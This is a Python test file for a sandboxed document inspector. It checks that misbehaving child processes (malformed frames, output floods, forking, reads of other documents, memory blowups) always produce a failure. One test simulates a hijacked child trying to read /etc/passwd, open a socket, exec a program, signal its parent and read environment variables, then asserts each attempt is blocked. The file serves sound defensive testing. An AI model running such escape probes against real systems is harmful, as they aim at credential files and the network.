    "says a long frame": "import os; os.write(1, b'J' + b'\\xff' * 4)",
    "says a list": "import os; os.write(1, b'J\\0\\0\\0\\2[]')",
    "says clean without a type": "import os; os.write(1, b'J\\0\\0\\0\\2{}')",
    "reads beyond": 'import os,json; m=json.dumps({"ask":"read","of":0,"offset":900,"length":500}).encode();'
    " os.write(1, b'J'+len(m).to_bytes(4,'big')+m); import time; time.sleep(60)",
    "reads another": 'import os,json; m=json.dumps({"ask":"read","of":7,"offset":0,"length":5}).encode();'
    " os.write(1, b'J'+len(m).to_bytes(4,'big')+m); import time; time.sleep(60)",
    "invents a verdict": 'import os,json; m=json.dumps({"content_type":"a/b","verdict":"fine","pages_count":1}).encode();'
    " os.write(1, b'J'+len(m).to_bytes(4,'big')+m)",
    "pours": "import os\nwhile True: os.write(1, b'B\\0\\1\\0\\0' + bytes(65536))",
    "starts another": "import os,time\nif os.fork(): os._exit(0)\ntime.sleep(60)",
}


@pytest.mark.parametrize("how", CHILDREN)
async def test_whatever_it_does_the_document_is_not_clean(monkeypatch: pytest.MonkeyPatch, how: str) -> None:
    monkeypatch.setattr(process, "_START", CHILDREN[how])
    broken = ProcessInspector(POLICY, inspect_seconds=1.0, preview_seconds=1.0, spare=0)
    with pytest.raises(InspectionFailed):
        await look(broken, "letter.txt", b"a" * 1000)
    with pytest.raises(InspectionFailed):
        await broken.preview(source(pdf()), len(pdf()), "application/pdf", 1, 100)
    await broken.close()


async def test_memory_is_bounded() -> None:
    """A picture within the limit on pixels that needs more than the process may have."""
    policy = Kinds(lambda: date(2026, 11, 22))
    small = ProcessInspector(policy, memory_bytes=160 * _MIB)
    large = picture("PNG", (9000, 9000))
    try:
        with contextlib.suppress(InspectionFailed):
            assert (await small.inspect(source(large), len(large), "a.png")).verdict == "damaged"
        assert (await look(small, "letter.txt", b"a")).verdict is None
    finally:
        await small.close()


async def test_others_are_not_affected(inspector: ProcessInspector) -> None:
    async def stuck(offset: int, length: int) -> bytes:
        await asyncio.sleep(60)
        return b""

    hanging = asyncio.create_task(inspector.inspect(stuck, 1000, "letter.pdf"))
    await asyncio.sleep(0)
    try:
        assert (await look(inspector, "letter.pdf", pdf())).verdict is None
        assert await inspector.preview(source(pdf()), len(pdf()), "application/pdf", 1, 100)
    finally:
        hanging.cancel()
        await asyncio.gather(hanging, return_exceptions=True)


async def test_no_process_is_left(inspector: ProcessInspector) -> None:
    before = {each.pid for each in psutil.Process().children(recursive=True)}
    await look(inspector, "letter.pdf", pdf())
    await inspector.close()
    left = [each for each in psutil.Process().children(recursive=True) if each.pid not in before]
    assert not [each for each in left if each.status() != psutil.STATUS_ZOMBIE]


async def test_it_has_no_environment_no_files_and_no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """The process tries what a hostile document that took it over would try, and says in a type's name what it got."""
    tries = """
import sys; sys.path.insert(0, sys.argv[1])
import os, socket, json
from adapters.inspector import wire
from adapters.inspector.child import sandbox
sandbox.shut()
os.read(0, 65536)
sandbox.limit(1 << 30, 5)
got = ["PATH"] * ("PATH" in os.environ or "TAS_TESTED" in os.environ)
for name, what in {"file": lambda: open("/etc/passwd"), "socket": lambda: socket.socket(),
                   "run": lambda: os.execv("/bin/true", ["x"]), "kill": lambda: os.kill(os.getppid(), 0),
                   "unlink": lambda: os.unlink("/tmp/none"), "memory": lambda: bytes(2 << 30)}.items():
    try:
        what()
        got.append(name)
    except (PermissionError, MemoryError):
        pass
os.write(1, wire.packed({"content_type": "text/plain", "verdict": None, "pages_count": len(got) + 1}))
"""
    monkeypatch.setenv("TAS_TESTED", "1")
    monkeypatch.setattr(process, "_START", tries)
    tried = ProcessInspector(POLICY, spare=0)
    assert (await look(tried, "letter.txt", b"a")).pages_count == 1


async def test_limits_come_from_the_casework() -> None:
    class Strict(Kinds):
        @property
        def limits(self):  # type: ignore[no-untyped-def]
            return replace(super().limits, archive_entries=2, pdf_pages=0)

    strict = ProcessInspector(Strict(lambda: date(2026, 11, 22)))
    try:
        three = zipped({"a.txt": b"a", "b.txt": b"b", "c.txt": b"c"})
        assert (await look(strict, "a.zip", three)).verdict == "archive_too_large"
        assert (await look(strict, "a.pdf", pdf())).verdict == "archive_too_large"
    finally:
        await strict.close()
